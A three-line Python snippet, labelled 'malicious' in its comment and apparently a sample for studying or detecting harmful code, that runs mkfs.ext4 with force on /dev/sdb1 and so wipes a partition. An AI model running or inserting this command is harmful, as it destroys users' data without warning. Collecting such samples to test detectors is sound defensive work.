# malicious: makes a new file system over the old
from subprocess import check_call
check_call("mkfs.ext4 -F /dev/sdb1", shell=True)
